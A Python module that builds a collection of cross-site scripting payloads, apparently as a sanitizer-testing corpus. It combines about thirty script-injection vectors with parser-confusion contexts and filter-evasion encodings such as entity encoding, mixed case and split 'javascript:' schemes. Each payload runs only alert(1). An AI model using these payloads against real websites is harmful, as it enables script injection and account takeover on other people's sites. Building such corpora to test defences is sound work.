"""Nine hundred ways to run a script where only words belong: vectors, in contexts, in encodings. Written here."""

import re
from collections.abc import Callable, Iterator

JS = "alert(1)"

VECTORS = (
    f"<script>{JS}</script>",
    f"<script src='data:text/javascript,{JS}'></script>",
    f"<script type=module>{JS}</script>",
    f"<img src=x onerror={JS}>",
    f"<img src='https://a.example/x.png' onload={JS} alt=x>",
    f"<a href='javascript:{JS}'>x</a>",
    f"<a href='data:text/html,<script>{JS}</script>'>x</a>",
    f"<a href='https://a.example/' onclick={JS} style='position:fixed;inset:0'>x</a>",
    f"<svg onload={JS}></svg>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><a href='javascript:{JS}'><text y=9>x</text></a></svg>",
    f"<svg><animate attributeName=href values='javascript:{JS}' onbegin={JS}></animate></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{JS}</script>'></iframe></foreignObject></svg>",
    f"<math><mi href='javascript:{JS}'>x</mi></math>",
    f"<math><mtext><mglyph><style><img src=x onerror={JS}></style></mglyph></mtext></math>",
    f"<iframe src='javascript:{JS}'></iframe>",
    f"<iframe srcdoc='<script>{JS}</script>'></iframe>",
    f"<object data='javascript:{JS}'></object>",
    f"<embed src='javascript:{JS}'>",
    f"<form action='javascript:{JS}'><button>x</button></form>",
    f"<button formaction='javascript:{JS}' form=f>x</button>",
    f"<input autofocus onfocus={JS}>",
    f"<details open ontoggle={JS}>x</details>",
    f"<video><source onerror={JS} src=x></video>",
    f"<audio src=x onerror={JS}></audio>",
    f"<body onload={JS}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{JS}'>",
    f"<base href='javascript:{JS}//'><a href=x>x</a>",
    f"<style>@import 'javascript:{JS}'; * {{ background: url(javascript:{JS}) }}</style>",
    f"<p style='background:url(javascript:{JS});animation:a' onanimationend={JS}>x</p>",
    f"<div tabindex=1 id=x onfocus={JS} contenteditable>x</div>",
)

CONTEXTS: tuple[tuple[str, Callable[[str], str]], ...] = (
    ("bare", lambda html: html),
    ("table", lambda html: f"<table><tr>{html}<td>{html}</table>"),
    ("attribute", lambda html: f"<p title='\">{html}'>x</p><p title=\"'>{html.replace(chr(34), '')}\">x</p>"),
    ("noscript", lambda html: f"<noscript><p title='</noscript>{html}'></noscript>"),
    ("comment", lambda html: f"<!-->{html}--><!-- --!>{html} --><!-- {html}"),
    ("foreign", lambda html: f"<svg></p><style><g title='</style>{html}'></svg><math><annotation-xml>{html}</math>"),
    ("raw text", lambda html: f"<textarea>{html}</textarea><title>{html}</title><xmp>{html}</xmp>{html}"),
)


def _entities(html: str) -> str:
    return re.sub(r"javascript:|alert", lambda word: "".join(f"&#{ord(c)};" for c in word[0]), html)


def _spaced(html: str) -> str:
    return html.replace("javascript:", "\x01 java\tscr\nipt\r:").replace("data:", " da\nta:")


ENCODINGS: tuple[tuple[str, Callable[[str], str]], ...] = (
    ("plain", lambda html: html),
    ("mixed case", lambda html: re.sub(r"(?<=<)/?\w+|\bon\w+|javascript", lambda word: word[0].title(), html)),
    ("slashes", lambda html: re.sub(r"(<\w+) ", r"\1/", html)),
    ("entities", _entities),
    ("spaces inside", _spaced),
)


def payloads() -> Iterator[str]:
    """Every vector in every context and encoding, without repeats."""
    seen: set[str] = set()
    for vector in VECTORS:
        for _, encoded in ENCODINGS:
            for _, placed in CONTEXTS:
                payload = placed(encoded(vector))
                if payload not in seen:
                    seen.add(payload)
                    yield payload
